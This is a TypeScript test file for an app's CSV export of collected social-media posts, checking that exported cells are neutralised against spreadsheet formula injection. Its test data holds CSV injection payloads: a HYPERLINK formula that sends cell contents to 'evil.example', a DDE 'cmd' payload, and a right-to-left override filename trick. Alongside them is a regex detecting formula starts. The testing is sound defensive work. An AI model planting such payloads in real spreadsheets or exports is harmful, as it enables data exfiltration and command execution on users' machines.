import { describe, expect, test } from 'bun:test'
import { parse } from 'csv-parse/sync'
import { createApp } from '../../src/app'
import type { NewSignal } from '../../src/storage/repos/signals'
import { seedTeam, testDeps } from '../support/deps'

// What a spreadsheet meets in posts strangers write: formula starts (OWASP's CSV injection list, and ASVS 1.2.10's
// null character, which a spreadsheet drops before reading the rest), quotes, line breaks, a right-to-left override,
// a post of 5,000 characters, letters beyond ASCII (docs/api.md#export).
const TEXTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '+1 555 0100',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "\u0000=cmd|' /C calc'!A0",
  '\u0000\u0000+1',
  'He said "buy it", then left',
  'line one\r\nline two\nline three',
  'invoice\u202Efdp.exe',
  '\u202E=1+1',
  `zoë wants a CRM ${'x'.repeat(5000 - 16)}`,
  'Zürich, 東京 and 🚀',
]

function signals(teamId: string): NewSignal[] {
  return TEXTS.map((text, i) => ({
    id: `sig_p${String(i).padStart(2, '0')}`,
    teamId,
    platform: 'reddit',
    postId: `reddit:p${i}`,
    author: text.slice(0, 200),
    intent: 'ACTIVE',
    score: 9,
    reason: text,
    icpMatch: null,
    preview: text.slice(0, 300),
    contentFull: text,
    url: `https://example.com/p/${i}`,
    keyword: 'crm',
    publishedAt: new Date(Date.UTC(2026, 9, 1, 0, i)).toISOString(),
    detectedAt: '2026-11-01T00:00:00.000Z',
  }))
}

// A cell a spreadsheet runs as a formula: after the characters it drops or skips at the start (spaces, controls),
// one of the formula characters. A cell starting with the single quote is text.
const RUNS = /^[\s\p{Cc}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/u
// What the export writes for `text`: a NUL as U+FFFD (the database keeps no text past one, docs/api.md#export), a
// single quote before a formula start, at the field's start and after a
// semicolon, tab or line break inside it (where a spreadsheet can start a cell too), otherwise the text as it is.
const inert = (text: string) => {
  const inside = text.replaceAll('\u0000', '\uFFFD').replace(/([;\t\r\n])(?=[ "]*[=+\-@])/g, "$1'")
  return RUNS.test(inside) ? `'${inside}` : inside
}

async function exported(query: string) {
  const { deps } = await testDeps({ config: { plans: { endless: { monthly_requests: 'unlimited' } } } })
  const { team, apiKey } = await seedTeam(deps, { plan: 'endless' })
  await deps.repos.signals.insertMany(team.id, signals(team.id))
  const r = await createApp(deps).handle(
    new Request(`http://localhost/api/v1/signals/export${query}`, { headers: { 'x-api-key': apiKey } }),
  )
  expect(r.status).toBe(200)
  return new Uint8Array(await r.arrayBuffer())
}

describe('the CSV export as a CSV library reads it (docs/api.md#export)', () => {
  for (const bom of [false, true]) {
    test(`bom=${bom}: every field comes back, none would run as a formula`, async () => {
      const bytes = await exported(`?format=csv&bom=${bom}`)
      // EF BB BF only when asked for; csv-parse's `bom` option takes it off as Excel does.
      expect([...bytes.slice(0, 3)]).toEqual(bom ? [0xef, 0xbb, 0xbf] : [...new TextEncoder().encode('id,')])
      const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)
      const [header, ...rows]: string[][] = parse(text, { bom: true, record_delimiter: '\r\n' })
      expect(header[0]).toBe('id')
      expect(rows).toHaveLength(TEXTS.length)
      for (const row of rows) {
        expect(row).toHaveLength(19)
        const i = Number(row[1].replace('reddit:p', ''))
        const text = TEXTS[i]
        expect([row[3], row[6], row[8], row[9]]).toEqual([
          inert(text.slice(0, 200)),
          inert(text),
          inert(text.slice(0, 300)),
          inert(text),
        ])
        for (const cell of row) expect(RUNS.test(cell)).toBe(false)
      }
    })
  }
})
